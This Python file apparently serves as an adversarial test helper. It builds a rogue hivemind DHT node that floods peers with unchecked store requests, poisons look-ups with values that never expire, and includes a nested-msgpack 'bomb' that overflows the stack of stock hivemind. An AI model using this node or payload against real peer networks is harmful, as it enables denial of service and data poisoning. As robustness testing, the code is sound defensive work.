"""A raw hivemind node that sends other nodes whatever it likes, and answers them as it likes."""

from __future__ import annotations

import math
import time
from collections.abc import Sequence
from dataclasses import dataclass
from functools import partial
from typing import Any

import msgpack
from hivemind.dht import DHT, DHTNode
from hivemind.dht.routing import DHTID
from hivemind.dht.storage import DHTLocalStorage, DictionaryDHTValue
from hivemind.proto import dht_pb2
from hivemind.utils.timed_storage import ValueWithExpiration

from paceline.network.dht import PeerDht

REGULAR, DICTIONARY = b"\xc0", b""  # hivemind's marks for a value without subkeys, and for a whole dictionary
_DICTIONARY_CODE, _TUPLE_CODE = 0x50, 0x40


@dataclass(frozen=True)
class Store:
    """One request to store, byte by byte."""

    key: bytes
    subkey: bytes
    value: bytes
    expires_at: float
    in_cache: bool = False


class Attacker:
    """Checks nothing, keeps nothing of what honest nodes store there, and stays alive while it attacks."""

    def __init__(self, seeds: Sequence[str]) -> None:
        self.dht = PeerDht(seeds, use_relay=False, nat_port_map=False)
        self.dht.start_or_raise()
        self.dht.run_coroutine(_keep_nothing)

    def store(self, *requests: Store) -> list[list[bool] | str]:
        """Ask every node that it knows. Tells what each of them answered."""
        answers: list[list[bool] | str] = self.dht.run_coroutine(partial(_store, requests))
        assert answers, "the attacker knows nobody"
        return answers

    def answer(self, key: DHTID, value: bytes) -> None:
        """From now on answer look-ups of a key with a dictionary of these bytes that never expires."""
        self.dht.run_coroutine(partial(_answer, key, value))

    def shutdown(self) -> None:
        self.dht.shutdown()


def whole(items: Sequence[tuple[Any, Any, Any]], maxsize: Any = None, latest: Any = math.inf) -> bytes:
    """A dictionary as it travels."""
    return bytes(
        msgpack.packb(msgpack.ExtType(_DICTIONARY_CODE, msgpack.packb([maxsize, latest, list(items)])))
    )


def bomb(depth: int = 400) -> bytes:
    """Tuples within tuples: unpacking them overflows the stack of stock hivemind."""
    packed = msgpack.packb([])
    for _ in range(depth):
        packed = msgpack.packb(msgpack.ExtType(_TUPLE_CODE, b"\x91" + packed))
    return bytes(packed)


async def _keep_nothing(_: DHT, node: DHTNode) -> None:
    node.protocol.storage = DHTLocalStorage(maxsize=-1)


async def _store(requests: Sequence[Store], _: DHT, node: DHTNode) -> list[list[bool] | str]:
    request = dht_pb2.StoreRequest(
        keys=[one.key for one in requests],
        subkeys=[one.subkey for one in requests],
        values=[one.value for one in requests],
        expiration_time=[one.expires_at for one in requests],
        in_cache=[one.in_cache for one in requests],
        peer=node.protocol.node_info,
    )
    answers: list[list[bool] | str] = []
    for peer in list(node.protocol.routing_table.peer_id_to_uid):
        try:
            response = await node.protocol.get_stub(peer).rpc_store(request, timeout=10)
            answers.append(list(response.store_ok))
        except Exception as error:
            answers.append(repr(error))
    return answers


class _Packed:
    def __init__(self, value: bytes) -> None:
        self.value = value

    def dumps(self, _: object) -> bytes:
        return self.value


async def _answer(key: DHTID, value: bytes, _: DHT, node: DHTNode) -> None:
    node.protocol.serializer = _Packed(value)
    kept = DictionaryDHTValue()
    kept.store("something", b"", time.time() + 3600)
    node.protocol.storage.data[key] = ValueWithExpiration(kept, math.inf)
